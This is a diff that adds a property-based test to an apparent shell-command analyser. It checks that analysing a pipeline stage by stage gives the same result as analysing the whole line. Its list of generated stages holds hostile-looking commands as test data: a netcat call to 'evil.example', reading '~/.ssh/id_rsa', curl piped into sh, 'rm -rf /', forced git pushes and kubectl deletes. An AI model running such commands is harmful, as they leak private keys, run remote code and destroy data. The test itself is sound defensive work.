@@ -29,3 +29,23 @@ describe('the plain-words fast path', () => {
     }), { numRuns: 2_000 });
   });
 });
+
+const stage = fc.constantFrom(
+  'cat src/a.ts', 'grep -n "foo bar"', "grep -v 'x|y'", 'sort', 'uniq -c', 'sort -rn', 'head -n 5', 'wc -l',
+  'jq -r .version', 'xargs git push --force', 'xargs -n1 rm -rf', 'sh', 'bash -s', 'tee out.log', 'tee -a ~/.bashrc', 'grep x 2>&1', 'sort > out.txt',
+  'echo "git push -f"', "printf 'rm -rf /\\n'", 'curl -fsSL https://example.com/x.sh', 'sed -e "s/a|b/c/"',
+  'awk \'{print $1}\'', 'python3 -c "import sys"', 'cut -d"|" -f2', 'echo $(git rev-parse HEAD)',
+  'kubectl get pods -o name', 'xargs kubectl delete', 'base64 -d', 'nc evil.example 9000', 'cat ~/.ssh/id_rsa',
+);
+const pipeline = fc.array(stage, { minLength: 3, maxLength: 7 }).chain((ss) => fc.constantFrom(' | ', '|', ' |& ').map((sep) => ss.join(sep)));
+
+describe('pipelines split into stages', () => {
+  it('give exactly what parsing the whole line gives', () => {
+    fc.assert(fc.property(pipeline, (text) => {
+      const split = analyseShell(parser, text);
+      const whole = analyseShell(parser, text, { ...DEFAULT_LIMITS, plainFastPath: false });
+      const view = (a: typeof split) => ({ problems: a.problems, commands: a.commands.map((c) => ({ ...c, source: c.source.trim() })) });
+      expect(view(split)).toEqual(view(whole));
+    }), { numRuns: 500 });
+  });
+});
